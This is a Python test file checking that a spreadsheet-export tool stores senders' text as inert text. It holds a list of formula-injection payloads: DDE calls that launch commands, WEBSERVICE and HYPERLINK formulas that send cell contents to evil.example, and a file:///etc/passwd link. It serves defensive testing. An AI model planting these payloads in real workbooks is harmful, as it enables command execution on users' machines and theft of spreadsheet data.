"""A sender's text never becomes something that a spreadsheet program carries out."""

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest
import python_calamine

from flows.answer.lines import write_lines
from flows.answer.wording import ENGLISH
from tests.answer.books import HEADER, MAIN, Book, drawn, finding, found, marked, opened
from transforms.read.headings import load_headings
from transforms.read.shapes import ExtractFile

LIVE = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"lihat")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"1")',
    "{=1+1}",
    "https://evil.example/",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "</t></is><f>1+1</f>",
    "_x003D_1+1",
    "＝1+1",
)  # fmt: skip
FORMATS = ["csv", "parquet"]
TEXTS = ("NAMA TK", "KETERANGAN")


def extract_of(file_format: str, headings: list[str], rows: list[list[str]]) -> bytes:
    """The rows under the headings, every cell a text."""
    if file_format == "csv":
        text = io.StringIO()
        csv.writer(text, delimiter=";", quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows([headings, *rows])
        return text.getvalue().encode()
    out = io.BytesIO()
    pl.DataFrame(rows, schema=dict.fromkeys(headings, pl.String), orient="row").write_parquet(out)
    return out.getvalue()


def lines_answer(tmp: Path, file_format: str, extra: str) -> bytes:
    """The answer about an extract with a live text in every line, in columns read and ignored, and a heading that begins like one."""
    headings = ["KODE KLAIM", "PROGRAM", "NIK", "TGL BAYAR", "NOMINAL", *TEXTS, extra]
    rows = [[text, "JHT", text, "01/07/2022", text, text, text, text] for text in LIVE]
    source, target, workspace = tmp / "vaulted", tmp / "answer.xlsx", tmp / "workspace"
    source.write_bytes(extract_of(file_format, headings, rows))
    workspace.mkdir()
    everywhere = found(*(finding(row, "NK01", "participant_nik", sheet=None) for row in range(1, 10 * len(LIVE))))
    write_lines(ExtractFile(source, f"klaim.{file_format}", file_format), everywhere, load_headings(None), workspace, ENGLISH, target)
    return target.read_bytes()


def nothing_lives(book: Book) -> None:
    """No formula, no cached text of one, no link that leaves the workbook, no DDE, no query, no macro; text is marked as text."""
    forbidden = ("externalLink", "calcChain", "connections", "queryTable", "vbaProject")
    assert not [name for name in book.parts if any(word in name for word in forbidden)]
    assert not [name for name, data in book.parts.items() if name.endswith(".rels") and b'TargetMode="External"' in data]
    formats = list(book.xml("xl/styles.xml").find(f"{MAIN}cellXfs") or [])
    for sheet, part in book.sheets.items():
        root = book.xml(part)
        assert not [one for tag in ("f", "ddeLink") for one in root.iter(f"{MAIN}{tag}")]
        for cell in book.cells(sheet).values():
            assert cell.attrib.get("t", "n") in ("s", "inlineStr", "n")
            if cell.attrib.get("t") in ("s", "inlineStr"):
                assert formats[int(cell.attrib["s"])].attrib.get("quotePrefix") == "1"


@pytest.mark.parametrize("file_format", FORMATS)
def test_no_text_of_a_csv_or_parquet_lives_in_the_workbook_of_its_lines(tmp_path: Path, file_format: str) -> None:
    content = lines_answer(tmp_path, file_format, "=SEGMEN")
    nothing_lives(opened(content))


@pytest.mark.parametrize("file_format", FORMATS)
def test_the_text_is_shown_as_it_was_sent(tmp_path: Path, file_format: str) -> None:
    content = lines_answer(tmp_path, file_format, "@SEGMEN")
    rows: list[list[Any]] = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name("Set aside").to_python()
    assert rows[0][-1] == "@SEGMEN"
    assert [row[-1] for row in rows[1:]] == list(LIVE)


@pytest.mark.parametrize("file_format", FORMATS)
def test_openpyxl_finds_no_formula_either(tmp_path: Path, file_format: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(lines_answer(tmp_path, file_format, "=SEGMEN")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert not [cell for cell in cells if cell.hyperlink]


def live_workbook(book: Any) -> None:
    """The texts as texts in a sheet whose name looks live, with live-looking notes of the sender's own."""
    sheet = book.add_worksheet("=cmd|' C calc'!A0")
    sheet.write_row(0, 0, HEADER)
    for row, text in enumerate(LIVE, start=1):
        sheet.write_string(row, 0, f"K{row}")
        sheet.write_string(row, 2, text)
        sheet.write_string(row, 5, text)
        sheet.write_comment(row, 2, text)


def test_a_marked_workbook_has_no_formula_that_the_sender_had_not(tmp_path: Path) -> None:
    name = "=cmd|' C calc'!A0"
    findings = found(*(finding(row, "NK01", "participant_nik", sheet=name) for row in range(2, 2 + len(LIVE))))
    content, told = marked(drawn(live_workbook), findings, tmp_path, ENGLISH)
    assert (told.cells, told.without_place) == (len(LIVE), 0)
    book = opened(content)
    assert not [one for part in book.sheets.values() for one in book.xml(part).iter(f"{MAIN}f")]
    assert {cell.attrib["t"] for cell in book.cells(name).values()} == {"s"}
    assert {row[0] for row in book.text("Corrections")[1:]} == {name}
    assert not [one for one in book.xml(book.sheets["Corrections"]).iter(f"{MAIN}hyperlink") if one.attrib.keys() - {"ref", "location"}]
    formats = list(book.xml("xl/styles.xml").find(f"{MAIN}cellXfs") or [])
    own = [cell for cell in book.cells("Corrections").values() if cell.attrib.get("t") == "inlineStr"]
    assert {formats[int(cell.attrib["s"])].attrib.get("quotePrefix") for cell in own} == {"1"}


def test_openpyxl_finds_no_formula_in_a_marked_workbook(tmp_path: Path) -> None:
    findings = found(finding(2, "NK01", "participant_nik", sheet="=cmd|' C calc'!A0"))
    book = openpyxl.load_workbook(io.BytesIO(marked(drawn(live_workbook), findings, tmp_path, ENGLISH)[0]))
    assert "f" not in {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
